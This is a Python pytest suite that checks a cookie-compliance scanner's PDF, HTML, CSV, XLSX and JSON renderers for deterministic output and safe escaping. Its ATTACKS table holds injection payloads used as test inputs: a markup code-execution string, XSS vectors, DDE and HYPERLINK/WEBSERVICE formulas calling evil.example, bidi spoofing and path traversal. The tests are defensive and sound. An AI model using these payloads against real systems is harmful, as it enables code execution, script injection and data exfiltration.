"""One suite over every renderer of the registry: whatever the format, these promises hold."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import msgspec
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from compliance.assess import Bounds, assess
from compliance.falls import Since
from compliance.rules import load_pack
from languages.language import known_languages, load_language
from renderers import registry
from renderers.fonts import REGULAR, font_for
from renderers.json_document import report_json_schema
from renderers.registry import RENDERERS, Renderer, render
from schemas.errors import InvalidEvent, NotFound, PermanentError, RenderFailed
from schemas.reports import Format, HistoryPoint, Report
from schemas.scans import Scan, decode_scan

ROOT = Path(__file__).parents[2]
SCANS = sorted((ROOT / "tests/data/scans").glob("*.json"))
PACK = load_pack("eu-baseline")
BOUNDS = Bounds(max_cookies=50_000, max_string_bytes=8192)

formats = pytest.mark.parametrize("format", RENDERERS)


def report_of(scan: Scan, **more) -> Report:
    return assess(scan, scan_sha256="ab" * 32, pack=PACK, bounds=BOUNDS, **more)


def report_from(path: Path) -> Report:
    data = path.read_bytes()
    return assess(
        decode_scan(data),
        scan_sha256=hashlib.sha256(data).hexdigest(),
        pack=PACK,
        bounds=BOUNDS,
    )


def scan_with(*cookies, **fields) -> Scan:
    base = {"scan_id": "5b8ff6a2-4c1e-4d6b-9d1c-0a4f2f6f3a11", "domain": "example.org",
            "page_count": 1}  # fmt: skip
    return msgspec.convert({**base, **fields, "cookies": list(cookies)}, Scan)


class Page(HTMLParser):
    """What a browser would see: text, and every element with its attributes."""

    VOID = frozenset({"meta", "input", "rect"})

    def __init__(self, data: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.rows: list[list[str]] = []
        self._table = ""
        self.feed(data.decode("utf-8"))
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.elements.append((tag, attributes))
        if tag == "table":
            self._table = attributes.get("id") or "other"
        if tag == "tr" and self._table == "inventory":
            self.rows.append([])
        if tag in ("td", "th") and self._in_body():
            self.rows[-1].append("")
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag
        if tag == "table":
            self._table = ""

    def handle_data(self, data):
        if self.open and self.open[-1] not in ("script", "style"):
            self.parts.append(data)
        if ("td" in self.open or "th" in self.open) and self._in_body():
            self.rows[-1][-1] += data

    def _in_body(self) -> bool:
        return self._table == "inventory" and "tbody" in self.open


def pdf_text(data: bytes) -> str:
    """Every character on the pages in the order drawn, without white space."""
    pages = PdfReader(io.BytesIO(data)).pages
    return "".join("".join(page.extract_text().split()) for page in pages)


def sheets_of(data: bytes) -> dict[str, list[list[object]]]:
    """Every cell of a workbook by sheet and row; no cell is a formula or a link."""
    sheets = {}
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)
        sheets[sheet.title] = [list(row) for row in sheet.iter_rows(values_only=True)]
    return sheets


def text_of(format: Format, data: bytes) -> str:
    match format:
        case Format.PDF:
            return pdf_text(data)
        case Format.HTML:
            return "".join("".join(Page(data).parts).split())
        case Format.XLSX:
            cells = [cell for rows in sheets_of(data).values() for row in rows for cell in row]
            return "".join("".join(str(cell or "") for cell in cells).split())
        case _:
            return "".join(data.decode("utf-8").split())


def sentence(text: str) -> str:
    return "".join(text.split())


def test_every_format_of_the_contract_has_a_renderer():
    assert set(RENDERERS) == set(Format)
    assert len({renderer.suffix for renderer in RENDERERS.values()}) == len(RENDERERS)


@formats
@pytest.mark.parametrize("path", SCANS, ids=lambda path: path.stem)
def test_every_cookie_of_a_real_scan_is_in_every_format(format, path):
    report = report_from(path)
    text = text_of(format, render(report, format))
    assert report.cookies
    for cookie in report.cookies:
        assert sentence(cookie.name) in text


@formats
def test_a_report_gives_the_same_bytes_again_and_after_other_reports(format):
    first = render(report_from(SCANS[0]), format)
    render(report_of(scan_with(*({"name": chr(0x370 + n) * 3} for n in range(600)))), format)
    assert render(report_from(SCANS[0]), format) == first


DIGEST = """
import hashlib, sys
sys.path.insert(0, "tests/contract")
from test_renderers import SCANS, render, report_from, hostile_report
for path in SCANS[1:3]:
    print(hashlib.sha256(render(report_from(path), sys.argv[1])).hexdigest())
print(hashlib.sha256(render(hostile_report(), sys.argv[1])).hexdigest())
"""


@formats
def test_another_process_with_another_seed_clock_and_zone_gives_the_same_bytes(format):
    here = [render(report_from(path), format) for path in SCANS[1:3]]
    here.append(render(hostile_report(), format))
    wanted = [hashlib.sha256(data).hexdigest() for data in here]
    for seed in ("1", "4711"):
        told = subprocess.run(
            [sys.executable, "-c", DIGEST, format],
            cwd=ROOT,
            env={
                **os.environ,
                "PYTHONHASHSEED": seed,
                "SOURCE_DATE_EPOCH": seed,
                "TZ": "Asia/Tokyo",
            },
            capture_output=True,
            text=True,
            check=True,
        )
        assert told.stdout.split() == wanted


OPENED = """
import sys
sys.path.insert(0, "tests/contract")
from test_renderers import SCANS, render, report_from
from renderers.registry import load_ahead
report = report_from(SCANS[1])
load_ahead("en")
opened = []
sys.addaudithook(lambda event, args: opened.append(args[0]) if event == "open" else None)
for format in ("pdf", "html", "csv", "json"):
    render(report, format)
print(opened)
"""


def test_what_is_loaded_ahead_is_not_read_again_at_the_first_report():
    told = subprocess.run(
        [sys.executable, "-c", OPENED], cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert told.stdout.split() == ["[]"]


@formats
@pytest.mark.parametrize("fields", [{}, {"status": "failed", "page_count": 0}])
def test_an_empty_scan_is_rendered_too(format, fields):
    assert len(render(report_of(scan_with(**fields)), format)) > 50


# What the web may call a cookie, and everything else a scanner passes on.
ATTACKS = {
    "paragraph markup": "<font color=\"[[[getattr(pow, Word('__globals__'))['os']"
    ".system('touch /tmp/exploited') for Word in [orgTypeFun('Word', (str,), {})]]]]\">x</font>",
    "paragraph entity": "<para>&nbsp;<b>unclosed &amp;lt;",
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script></style></title></td></table>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "handler": "' onmouseover='alert(1)",
    "comment": "<!-- --> ]]> <![CDATA[",
    "link": "javascript:alert(1)",
    "markup of a shared string": "<r><t>x</t></r></si></sst><r>&unclosed;</r>",
    "escape of a shared string": "_x0041_a_x000A_b_xD800_",
    "dde formula": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "fetching formula": '=WEBSERVICE("https://evil.example/")',
    "array formula": "{=1+1}",
    "web link": "https://evil.example/",
    "file link": "external:c:\\evil.xlsx",
    "pipe": "|calc",
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(1+1)*cmd",
    "spaced formula": "   =1+1",
    "full-width formula": "＝1+1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "quotes": 'a"b,"c";d',
    "control characters": "a\x00b\x07c\x1bd\x7fe\x85f",
    "bidi override": "evil\u202egpj.exe",
    "isolates": "a\u2066b\u2069c\u200fd",
    "zero width": "a\u200bb\ufeffc\u00add",
    "blank letters": "a\u3164b\u2800c\ufe0fd",
    "8 KB": "n" * 8192,
    "empty": "",
    "blank": "   ",
    "chinese": "中文名字",
    "arabic": "اسم الكعكة",
    "hebrew": "שם",
    "emoji": "🍪cookie😀",
    "astral": "𝒳𐍈",
    "combining": "e\u0301\u0301\u0301",
    "template": "{{7*7}}{% for x in y %}${7*7}#{7*7}",
    "percent": "%(x)s%n%s%d",
    "braces": "{0}{name}{texts}",
    "new line": "new\nline",
    "line separator": "a\u2028b\u2029c",
    "pdf syntax": ") Tj ET endstream (\\)\\(",
    "path": "../../etc/passwd",
    "private use": "\ue000\uf8ff",
    "noncharacter": "\uffff\U0010ffff",
}


def hostile_cookie(text: str) -> dict:
    return {
        "name": text, "domain": text, "path": text, "hashed_value": text,
        "cookie_duration": text, "same_site": text, "category": text, "vendor": text,
        "cookie_type": "Third Party", "set_after_accept": False, "iab_purposes": [text, 1],
        "description": text, "source": text, "ml_confidence": 1e300, "size": -(2**53),
        "requires_review": True, "secure": False, "http_only": False, "metadata": {text: text},
    }  # fmt: skip


def hostile_report() -> Report:
    texts = list(ATTACKS.values())
    scan = scan_with(
        *map(hostile_cookie, texts),
        domain=("<b>" + "x" * 60 + ".") * 3 + "=\u202eexample",
        scan_mode=ATTACKS["paragraph markup"],
        status=ATTACKS["script"],
        error=ATTACKS["end of script"] + "\x00",
        duration_seconds=1e300,
        page_count=2**53,
        pages_visited=texts,
        storages={"localStorage": dict.fromkeys(texts, "v"), "sessionStorage": {"k": texts}},
    )
    previous = scan_with(
        *({**hostile_cookie(text), "secure": True, "category": "necessary"} for text in texts),
        *({"name": text + "old"} for text in texts),
    )
    point = HistoryPoint(
        scan_id=ATTACKS["script"], finished_at=datetime(2026, 1, 1, tzinfo=UTC), score=None
    )
    return report_of(scan, previous=previous, history=[point])


@pytest.mark.parametrize("code", known_languages())
@pytest.mark.parametrize("format", [Format.PDF, Format.HTML])
@pytest.mark.parametrize("skipped", [0, 3])
def test_a_report_says_how_many_scans_were_passed_over(
    format: Format, code: str, skipped: int
) -> None:
    scan, previous = scan_with({"name": "a"}), scan_with({"name": "b"})
    report = report_of(scan, previous=previous, since=Since(skipped=skipped), language=code)
    said = load_language(code).say("drift.skipped", count=skipped)
    shown = unescape(text_of(format, render(report, format)))
    assert ("".join(said.split()) in "".join(shown.split())) is bool(skipped)


@pytest.fixture(scope="module")
def hostile() -> Report:
    return hostile_report()


def as_shown(text: str, drawn) -> str:
    """What a page must show of a text: hidden or undrawable characters as marks, no white space."""
    shown = []
    for char in text:
        if char == " ":
            continue
        plain = char.isascii() and char.isprintable()
        shown.append(char if plain or drawn(char) else f"‹U+{ord(char):04X}›")
    return "".join(shown)


HIDDEN = frozenset(
    "\x00\x07\x1b\x7f\x85\t\r\n\u202e\u2066\u2069\u200f\u200b\ufeff\u00ad\u3164\u2800\ufe0f"
    "\u2028\u2029\ue000\uf8ff\uffff\U0010ffff"
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_name_is_whole_and_visible_in_the_pdf(attack):
    name = ATTACKS[attack]
    text = pdf_text(render(report_of(scan_with({"name": name}, {"name": "NEXT"})), Format.PDF))
    if any("\u0590" <= char <= "\u06ff" for char in name):
        # Extraction turns right-to-left words around; the letters are all there.
        assert all(text.count(char) >= name.count(char) for char in set(name) - {" "})
    elif len(name) > 1000:
        # The name goes on over a page's head and foot; the inventory and the evidence show it.
        assert name.count("n") <= text.count("n")
    else:
        assert as_shown(name, lambda char: char not in HIDDEN and font_for(char, REGULAR)) in text
    assert "NEXT" in text


def test_a_long_name_loses_no_character_over_lines_and_pages():
    name = "".join(f"{number:04}" for number in range(2048))
    data = render(report_of(scan_with({"name": name})), Format.PDF)
    found = []
    pages = PdfReader(io.BytesIO(data)).pages
    for page in pages:
        if page.mediabox.width > 800:  # the inventory, whose other cells hold no long numbers
            words = page.extract_text().split()
            found += [word for word in words if word.isdigit() and len(word) > 3]
    assert "".join(found) == name


@formats
def test_a_wholly_hostile_scan_is_rendered_in_every_format(format, hostile):
    assert len(render(hostile, format)) > 1000


def test_nothing_in_a_hostile_page_is_an_element_of_its_own(hostile):
    page = Page(render(hostile, Format.HTML))
    assert page.open == []
    tags = [tag for tag, _ in page.elements]
    assert tags.count("script") == 1
    assert tags.count("style") == 1
    assert "img" not in tags
    for tag, attributes in page.elements:
        assert not any(name.startswith("on") or name in ("src", "style") for name in attributes)
        if "href" in attributes:
            assert tag == "a"
            assert attributes["href"].startswith(("https://", "#"))


def test_every_hostile_name_has_its_row_in_the_page(hostile):
    page = Page(render(hostile, Format.HTML))
    rows = [row for row in page.rows if row]
    assert len(rows) == len(ATTACKS)
    for row, name in zip(rows, ATTACKS.values(), strict=True):
        wanted = as_shown(name, lambda char: char not in HIDDEN) or sentence("(empty name)")
        # A name of blanks alone shows them, so that its cell is not empty.
        assert sentence(row[1]) in (wanted, len(name) * "‹U+0020›") or not name
        if name.strip():
            assert sentence(row[1]) == wanted


def test_every_hostile_name_has_its_row_in_the_workbook(hostile):
    rows = sheets_of(render(hostile, Format.XLSX))["Inventory"]
    assert rows[0][:2] == ["No.", "Name"]
    assert [row[0] for row in rows[1:]] == [*range(1, 1 + len(ATTACKS))]
    for row, name in zip(rows[1:], ATTACKS.values(), strict=True):
        wanted = as_shown(name, lambda char: char not in HIDDEN)
        assert sentence(str(row[1] or "")) == (wanted if name else sentence("(empty name)"))


@pytest.mark.parametrize("format", [Format.PDF, Format.HTML, Format.CSV, Format.XLSX])
def test_no_format_for_people_holds_a_character_that_is_not_shown(format, hostile):
    text = text_of(format, render(hostile, format))
    assert not (HIDDEN - set("\t\r\n")) & set(text)


def test_no_cell_of_the_table_starts_a_formula(hostile):
    data = render(hostile, Format.CSV)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 1 + len(ATTACKS)
    assert len({len(row) for row in rows}) == 1
    numbers = {rows[0].index("size_bytes")}
    for row in rows[1:]:
        for place, cell in enumerate(row):
            start = cell.lstrip(" \u3000")[:1]
            if place not in numbers:
                assert start not in {*"=+-@\t\r\n＝＋－＠"} or not start
    assert b"\x00" not in data


def test_the_table_gives_back_what_went_in():
    names = [name for name in ATTACKS.values() if not HIDDEN & set(name)]
    data = render(report_of(scan_with(*({"name": name} for name in names))), Format.CSV)
    rows = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    told = [row["name"] for row in rows]
    assert [name.removeprefix("'") for name in told] == [name.removeprefix("'") for name in names]
    assert data.count(b"\r\n") == len(names) + 1


def test_half_a_surrogate_pair_never_gets_as_far_as_a_report():
    for half in (b"\\ud800", b"a\\udfff", b"\xed\xa0\x80"):
        with pytest.raises(InvalidEvent):
            decode_scan(
                b'{"scan_id":"5b8ff6a2-4c1e-4d6b-9d1c-0a4f2f6f3a11","domain":"example.org",'
                b'"cookies":[{"name":"' + half + b'"}]}'
            )


@pytest.mark.parametrize(
    ("format", "shown"),
    [
        (Format.PDF, "half‹U+D800›pair"),
        (Format.HTML, "half‹U+D800›pair"),
        (Format.CSV, "half\\ud800pair"),
        (Format.XLSX, "half‹U+D800›pair"),
    ],
)
def test_half_a_surrogate_pair_would_be_shown_as_a_mark(format, shown):
    report = report_of(scan_with({"name": "whole"}))
    broken = msgspec.structs.replace(report.cookies[0], name="half\ud800pair")
    report = msgspec.structs.replace(report, cookies=(broken,))
    assert shown in text_of(format, render(report, format))
    with pytest.raises(RenderFailed, match="surrogates not allowed"):
        render(report, Format.JSON)


def test_the_json_report_is_the_report(hostile):
    schema = report_json_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    for report in (hostile, *map(report_from, SCANS)):
        data = render(report, Format.JSON)
        assert msgspec.json.decode(data, type=Report) == report
        jsonschema.validate(json.loads(data), schema, cls=jsonschema.Draft202012Validator)


def test_a_document_that_is_no_report_fails_the_schema():
    data = json.loads(render(report_from(SCANS[0]), Format.JSON))
    data["cookies"][0]["party"] = "second"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(data, report_json_schema())


any_text = st.text(max_size=40) | st.sampled_from(list(ATTACKS.values()))


@settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(any_text, min_size=1, max_size=4))
def test_no_cookie_name_stops_a_renderer_or_loses_a_row(names):
    report = report_of(scan_with(*map(hostile_cookie, names)))
    for format in RENDERERS:
        data = render(report, format)
        if format is Format.CSV:
            rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
            assert len(rows) == 1 + len(names)
        elif format is Format.HTML:
            assert len([row for row in Page(data).rows if row]) == len(names)
        elif format is Format.XLSX:
            assert len(sheets_of(data)["Inventory"]) == 1 + len(names)
        elif format is Format.JSON:
            told = [cookie["name"] for cookie in json.loads(data)["cookies"]]
            assert told == [cookie.name for cookie in report.cookies]
        else:
            assert len(PdfReader(io.BytesIO(data)).pages) >= 4


def test_a_renderer_that_stumbles_is_a_permanent_failure_with_its_cause(monkeypatch):
    def stumble(_report, _presentation) -> bytes:
        raise ZeroDivisionError("no width")

    monkeypatch.setitem(registry.RENDERERS, Format.PDF, Renderer(stumble, "x/y", ".x"))
    with pytest.raises(RenderFailed, match=r"pdf report of scan 5b8ff6a2.*no width") as caught:
        render(report_of(scan_with()), Format.PDF)
    assert isinstance(caught.value, PermanentError)
    assert isinstance(caught.value.__cause__, ZeroDivisionError)


def test_an_error_of_our_own_tree_passes_unchanged(monkeypatch):
    def refuse(_report, _presentation) -> bytes:
        raise NotFound("gone")

    monkeypatch.setitem(registry.RENDERERS, Format.PDF, Renderer(refuse, "x/y", ".x"))
    with pytest.raises(NotFound):
        render(report_of(scan_with()), Format.PDF)
